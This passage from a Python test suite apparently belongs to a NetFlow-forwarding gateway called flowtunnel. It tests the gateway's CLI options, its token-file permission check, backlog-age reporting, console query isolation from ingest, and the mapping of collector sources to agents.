    monkeypatch.setattr("flowtunnel.cli.gateway.init_logging", lambda args: None)
    for name in [n for n in os.environ if n.startswith("FLOWTUNNEL_GATEWAY_")]:
        monkeypatch.delenv(name)
    common = ["gateway", "--data", str(tmp_path / "gw"), "--admin-token-file", str(token_file(tmp_path))]
    assert main([*common, "--console", "off", "--metrics-public"]) == 0
    assert main(common) == 0
    assert [(c.console, c.metrics_public) for c in seen] == [(False, True), (True, False)]


async def test_a_token_file_others_can_read_stops_the_gateway(tmp_path: Path) -> None:
    loose = token_file(tmp_path)
    loose.chmod(0o640)
    with pytest.raises(ConfigError, match="chmod 600"):
        await start_gateway(tmp_path / "gw", admin_token_file=loose)
    assert not (tmp_path / "gw" / "journal.sqlite").exists()  # refused before the journal or a sink started


def test_the_agent_seals_the_age_of_its_oldest_unacknowledged_datagram(tmp_path: Path) -> None:
    from flowtunnel.agent.uploader import Uploader
    from flowtunnel.wire import open_batch
    from flowtunnel.wire.keys import generate_key
    from tests.agent.test_uploader import config, open_spool

    key = generate_key()
    spool = open_spool(tmp_path)
    try:
        spool.append([Datagram(received_ns=1_800_000_000_000_000_000 + i * 10**9, exporter="127.0.0.1",
                               exporter_port=4000, local_port=2055, payload=b"x" * 40) for i in range(5)])
        entries = spool.read(after=0, limit=100)
        cfg = config(tmp_path, "http://127.0.0.1:9", key)
        up = Uploader(cfg, key, spool, clock=lambda: 1_800_000_090.5)
        body, _ = up._seal(entries[2:])
        assert open_batch(body, key=key).agent_info["backlog_age"] == 88  # the first: +2 s
    finally:
        spool.close()


async def test_agents_page_shows_the_age_of_the_backlog(world: tuple[Gateway, str]) -> None:
    import os

    from flowtunnel.wire import seal_batch

    gw, url = world
    with Registry(gw.data_dir) as reg:
        entry = reg.get("site-2")
    assert entry is not None
    key = entry.key
    body = seal_batch(agent_id="site-2", key=key, first_seq=1, datagrams=v5_datagrams(1),
                      nonce=os.urandom(12), agent_info={"backlog": 50, "backlog_age": 600})
    async with aiohttp.ClientSession() as s:
        status, doc, _ = await post_batch(s, url, body, agent="site-2")
        assert status == 200, doc
        c = await session(s, url)
        _, doc = await get(s, url + "/console/api/agents", c)
    row = next(a for a in doc["agents"] if a["id"] == "site-2")
    assert row["backlog"] == 50
    assert 600 <= row["backlog_age"] < 660
    assert next(a for a in doc["agents"] if a["id"] == "site-1")["backlog_age"] is None  # never reported


async def test_slow_console_queries_do_not_stall_ingest(world: tuple[Gateway, str]) -> None:
    """Console queries (and the store's query server under them) run on threads of their own: three
    queries running to their timeout used to hold every thread of the event loop's default pool, which
    ingest needs for each batch, so agents' uploads waited for the queries."""
    gw, url = world
    with Registry(gw.data_dir) as reg:
        entry = reg.get("site-2")
    assert entry is not None
    slow = "SELECT sum(i * i % 7) FROM range(100000000000) t(i)"
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)

        async def ask() -> int:
            async with s.get(url + "/console/api/query", params={"mode": "sql", "q": slow}, cookies=c) as r:
                return r.status

        queries = [asyncio.create_task(ask()) for _ in range(3)]
        try:
            async with asyncio.timeout(10):
                while gw.console_data is None or len(gw.console_data.running) < 3:  # noqa: ASYNC110
                    await asyncio.sleep(0.05)
            status, doc, _ = await post_batch(s, url, seal("site-2", entry.key, 1, v5_datagrams(1)),
                                              agent="site-2")
            assert status == 200, doc
            assert not any(q.done() for q in queries)  # the batch was taken while all three still ran
        finally:
            for q in queries:
                q.cancel()
            await asyncio.gather(*queries, return_exceptions=True)


async def test_the_console_maps_collector_sources_back_to_agents_and_exporters(tmp_path: Path) -> None:
    """Issue 15 item 9: nfdump lists the gateway's pool addresses as exporters; the console gives the mapping
    (the same rows as ``flowtunnel sources``): all of it on the agents page, an agent's own on its page."""
    data = tmp_path / "gw"
    key = enroll(data, "site-1")
    enroll(data, "site-2")
    with UdpCapture() as collector:
        gw = await start_gateway(data, forward=(collector.url,), admin_token_file=token_file(tmp_path))
        try:
            async with aiohttp.ClientSession() as s:
                status, doc, _ = await post_batch(s, gw.url, seal("site-1", key, 1, v5_datagrams(2)),
                                                  agent="site-1")
                assert status == 200, doc
                await drained(gw)
                collector.wait_for(2, timeout=10)
                seen = {addr for _, addr in collector.datagrams}
                async with s.get(gw.url + "/console/api/sources") as r:
                    assert r.status == 401  # operator data
                c = await session(s, gw.url)
                status, doc = await get(s, gw.url + "/console/api/sources", c)
                assert status == 200, doc
                assert doc["sources"] == read_sources(data)
                assert [(r["agent"], r["exporter"], r["mode"]) for r in doc["sources"]] == [
                    ("site-1", "192.0.2.7", "bound")]
                assert {(r["source_address"], r["source_port"]) for r in doc["sources"]} == seen
                status, doc = await get(s, gw.url + "/console/api/agent", c, id="site-1")
                assert status == 200, doc
                assert doc["sources"] == read_sources(data)
                status, doc = await get(s, gw.url + "/console/api/agent", c, id="site-2")
                assert doc["sources"] == []
        finally:
            await gw.stop()


def test_the_console_pages_show_the_collector_sources() -> None:
    static = Path(__file__).resolve().parents[2] / "src/flowtunnel/gateway/console/static"
    assert 'id="sources"' in (static / "agents.html").read_text()
    assert "/console/api/sources" in (static / "agents.js").read_text()
    assert 'id="sources"' in (static / "agent.html").read_text()
    assert "doc.sources" in (static / "agent.js").read_text()
